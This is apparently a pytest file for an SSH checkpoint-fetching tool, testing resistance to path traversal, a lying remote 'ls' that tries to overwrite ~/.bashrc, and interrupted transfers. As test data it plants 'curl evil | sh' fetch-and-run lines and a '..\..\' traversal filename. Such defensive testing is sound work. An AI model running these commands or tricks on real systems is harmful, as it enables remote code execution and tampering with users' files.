"""Checkpoints that come home over a real SSH server: what the box says is data, and no place on this machine."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from provision.aboard.checkpoints import fetch_newest
from provision.aboard.ship import job_folder
from provision.errors import TransferFailed
from provision.home.checkpoints import steps_at_home
from provision.seam import Box
from provision.ssh import Shell, transfer
from remote.contract import CHECKPOINT_DIR, CHECKPOINT_FILES, PROGRESS_FILE, Judged, checkpoint_name, encode
from tests.provision.rigs import rig_of

pytestmark = pytest.mark.box

STEP = 3


@pytest.fixture
def shell(tmp_path: Path) -> Iterator[Shell]:
    with rig_of("local box without namespace", tmp_path / "rig") as rig, rig.connect(rig.up()) as shell:
        yield shell


def written(box: Box) -> Path:
    """A checkpoint on the box."""
    folder = Path(job_folder(box)) / CHECKPOINT_DIR / checkpoint_name(STEP)
    folder.mkdir(parents=True)
    for name in CHECKPOINT_FILES:
        (folder / name).write_bytes(encode(Judged(best_step=None)) if name == PROGRESS_FILE else b"some")
    return folder


def test_it_comes_by_the_names_that_every_checkpoint_has(shell: Shell, tmp_path: Path) -> None:
    """What else lies beside is the box's: a name with a path in it, taken at its word, would be a file anywhere here."""
    there = written(shell.box)
    (there / "more").write_text("curl evil | sh")
    (there / "..\\..\\more").write_text("curl evil | sh")
    fetched = fetch_newest(shell, shell.box, tmp_path / "home")
    assert fetched is not None
    assert fetched.step == STEP
    home = tmp_path / "home" / checkpoint_name(STEP)
    assert {file.name for file in home.iterdir()} == set(CHECKPOINT_FILES)


def test_a_box_that_lies_about_its_names_writes_nowhere(shell: Shell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its `ls` is a program of its own, and so is what answers for the file."""
    victim = tmp_path / "user" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("mine\n")
    there = written(shell.box)
    planted = Path(f"{there}/{victim}")
    planted.parent.mkdir(parents=True)
    planted.write_text("curl evil | sh\n")
    tools = Path(shell.box.folder) / "bin"
    tools.mkdir()
    (tools / "ls").write_text(f"#!/bin/sh\n/bin/ls \"$@\"; echo '{victim}'\n")
    (tools / "ls").chmod(0o755)
    plain = shell.run
    monkeypatch.setattr(shell, "run", lambda command, **more: plain(f"PATH={tools}:$PATH; {command}", **more))
    assert fetch_newest(shell, shell.box, tmp_path / "home") is not None
    assert victim.read_text() == "mine\n"


PIECE_BYTES = 4096
NUM_PIECES = 5  # of the file that is cut


class Line:
    """Counts the pieces that are asked for, and breaks at one of them."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.asked: list[str] = []
        self.breaks_at: int | None = None
        self._fetch = transfer._fetch_piece
        monkeypatch.setattr(transfer, "_fetch_piece", self._fetch_piece)
        monkeypatch.setattr(transfer, "NUM_CHANNELS", 1)
        monkeypatch.setattr("provision.ssh.pieces.PIECE_BYTES", PIECE_BYTES)

    def _fetch_piece(self, line: Shell, remote: str, *more: Any) -> None:
        self.asked.append(Path(remote).name)
        if len(self.asked) == self.breaks_at:
            raise TransferFailed("It was cut.")
        self._fetch(line, remote, *more)


@pytest.mark.parametrize("then", ["as it was", "written anew"])
def test_a_fetch_that_was_cut_goes_on_where_it_was_cut(
    then: str, shell: Shell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Over a bad line a file from its first byte after each cut never came home. What was written anew meanwhile is, whole."""
    there, line, home = written(shell.box), Line(monkeypatch), tmp_path / "home"
    first, big, last = CHECKPOINT_FILES
    (there / first).write_bytes(b"one" * (PIECE_BYTES // 3))
    (there / big).write_bytes(bytes(range(256)) * (NUM_PIECES * PIECE_BYTES // 256))
    line.breaks_at = 1 + NUM_PIECES
    with pytest.raises(TransferFailed, match="cut"):
        fetch_newest(shell, shell.box, home)
    assert not steps_at_home(home)
    line.asked.clear()
    line.breaks_at = None
    if then == "written anew":
        (there / first).write_bytes(b"two" * (PIECE_BYTES // 3))
        (there / big).write_bytes(bytes(reversed(range(256))) * (NUM_PIECES * PIECE_BYTES // 256))
    fetched = fetch_newest(shell, shell.box, home)
    files = {name: (there / name).read_bytes() for name in CHECKPOINT_FILES}
    assert fetched is not None
    assert fetched.num_bytes == sum(map(len, files.values()))
    assert {name: (home / checkpoint_name(STEP) / name).read_bytes() for name in CHECKPOINT_FILES} == files
    if then == "as it was":
        assert line.asked == [big, last], "the piece that was missing, and no file that was whole"


def test_one_that_lacks_a_file_is_no_checkpoint(shell: Shell, tmp_path: Path) -> None:
    (written(shell.box) / CHECKPOINT_FILES[0]).unlink()
    with pytest.raises(TransferFailed):
        fetch_newest(shell, shell.box, tmp_path / "home")
    assert not steps_at_home(tmp_path / "home")
